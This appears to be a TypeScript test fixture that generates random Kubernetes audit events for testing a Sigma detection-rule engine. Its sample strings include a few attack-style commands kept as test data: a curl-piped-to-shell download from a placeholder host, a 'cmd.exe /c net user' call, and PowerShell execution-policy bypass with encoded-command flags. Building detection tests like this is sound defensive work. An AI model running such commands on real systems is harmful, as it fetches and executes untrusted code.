import type { Json, JsonObject } from '../../src/model/json.ts';
import type { Random } from './random.ts';

/** Texts with what Sigma treats in a special way: wildcards, backslashes, dashes, letters of other scripts, line ends. */
export const texts = [
  'create',
  'DELETE',
  'Patch',
  'system:serviceaccount:kube-system:job-controller',
  'kubectl/v1.37.2 (linux/amd64) kubernetes/$Format',
  '/apis/batch/v1/namespaces/data/cronjobs?fieldManager=kubectl&dryRun=All',
  'sh -c "curl -s https://files.example/r | sh"',
  'C:\\Windows\\System32\\cmd.exe /c net user',
  'a\\*b',
  '\\\\server\\share',
  '*',
  '?',
  'what? a *star*',
  '100%',
  '%name%',
  '-ExecutionPolicy bypass /enc',
  'tar --exclude=/tmp -xzf',
  'Straße ÄÖÜ',
  'ИМПЕРИЯ',
  'ΣΊΣΥΦΟΣ',
  'İstanbul',
  '日本語のテキスト',
  'party 🎉 time',
  'line one\nline two',
  'tab\there',
  '',
  ' ',
  'true',
  'False',
  'null',
  '5',
  '05',
  '5.5',
  '-3',
  '1e3',
  'it\'s quoted "twice"',
  'x'.repeat(300),
  'aGVsbG8gd29ybGQ=',
  'Zm9vYmFy',
  'ZgBvAG8AYgBhAHIA',
  '__proto__',
  'Create',
  'CREATE',
  'cmd \u2015c net user',
  'powershell \u2013enc \u2014ExecutionPolicy bypass',
  ...encodings('foobar'),
];

/** A text in base64 at each of the three positions, in the encodings of the modifiers. */
export function encodings(text: string): readonly string[] {
  const wide = Buffer.from(text, 'utf16le');
  const marked = Buffer.concat([Buffer.from([0xff, 0xfe]), wide]);
  const all = [Buffer.from(text), wide, marked, Buffer.from(wide).swap16()];
  const shifted = ['', 'x', 'xx'].flatMap(before =>
    all.map(bytes => Buffer.concat([Buffer.from(before), bytes, Buffer.from('!')])),
  );
  return [...all, ...shifted].map(bytes => bytes.toString('base64'));
}

export const addresses = [
  '10.1.2.3',
  '10.255.255.255',
  '11.0.0.1',
  '192.168.0.77',
  '198.51.100.23',
  '127.0.0.1',
  'fd00::1',
  'FE80::0001',
  '2001:db8:0:1::1',
  '::ffff:10.1.2.3',
  'not an address',
  '10.1.2',
  '010.1.2.3',
  '10.1.2.3 ',
] as const;

export const times = [
  '2026-11-23T04:37:02.123456Z',
  '2026-11-23T23:59:59.999999Z',
  '2024-02-29T00:00:00Z',
  '2027-01-03T12:30:00+02:00',
  '2026-12-31',
  '2026-01-01T00:00:00Z',
  'yesterday',
] as const;

export const numbers = [0, 1, 5, 5.5, -3, 200, 403, 1000, 1_000_000, 0.1, 1e-7, 123456789012] as const;

/** Where the generated rules look. */
export const fields = {
  text: [
    'verb',
    'user.username',
    'userAgent',
    'requestURI',
    'objectRef.name',
    'annotations.example.com/note',
    'message',
  ],
  lists: [
    'user.groups',
    'requestObject.spec.containers.image',
    'requestObject.spec.containers.0.image',
    'tags',
  ],
  numbers: ['responseStatus.code', 'n.deep.number', 'counts'],
  addresses: ['sourceIPs', 'ip'],
  times: ['requestReceivedTimestamp', 'when'],
  odd: ['flag', 'nothing', 'empty', 'map', 'no.such.field', 'n', 'mixed'],
} as const;

/** An event with something, nothing, null, a list or another type under each of the fields. */
export function generateEvent(random: Random): JsonObject {
  const text = () => random.pick(texts);
  const image = () => ({ name: text(), image: text() });
  const some = <T extends Json>(make: () => T): Json | undefined => {
    if (random.chance(0.15)) return undefined;
    return random.chance(0.05) ? null : random.chance(0.04) ? random.pick(oddities) : make();
  };
  return withoutGaps({
    verb: some(text),
    user: withoutGaps({ username: some(text), groups: some(() => random.list(0, 3, text)) }),
    userAgent: some(text),
    requestURI: some(text),
    objectRef: some(() => withoutGaps({ name: some(text) })),
    annotations: some(() => withoutGaps({ 'example.com/note': some(text), 'example.com': some(text) })),
    message: some(text),
    tags: some(() => random.list(0, 3, () => (random.chance(0.15) ? null : text()))),
    requestObject: some(() => ({ spec: { containers: random.list(0, 2, image) } })),
    responseStatus: withoutGaps({ code: some(() => random.pick(numbers)) }),
    n: some(() => ({ deep: [{ number: random.pick(numbers) }, { number: random.pick(numbers) }] })),
    counts: some(() => random.list(0, 3, () => random.pick(numbers))),
    sourceIPs: some(() => random.list(1, 2, () => random.pick(addresses))),
    ip: some(() => random.pick(addresses)),
    requestReceivedTimestamp: some(() => random.pick(times)),
    when: some(() => random.list(0, 2, () => random.pick(times))),
    flag: some(() => random.chance(0.5)),
    nothing: random.chance(0.7) ? null : undefined,
    empty: random.chance(0.5) ? [] : undefined,
    map: some(() => ({ a: { b: text() } })),
    mixed: some(() =>
      random.list(0, 4, () => random.pick<Json>([...numbers, ...texts, true, false, null, { a: 1 }])),
    ),
  });
}

const oddities: readonly Json[] = [
  0,
  5,
  true,
  false,
  '',
  [],
  {},
  ['create', null],
  [[['deep']]],
  { a: 'create' },
];

function withoutGaps(object: { readonly [key: string]: Json | undefined }): JsonObject {
  return Object.fromEntries(Object.entries(object).filter(([, value]) => value !== undefined));
}
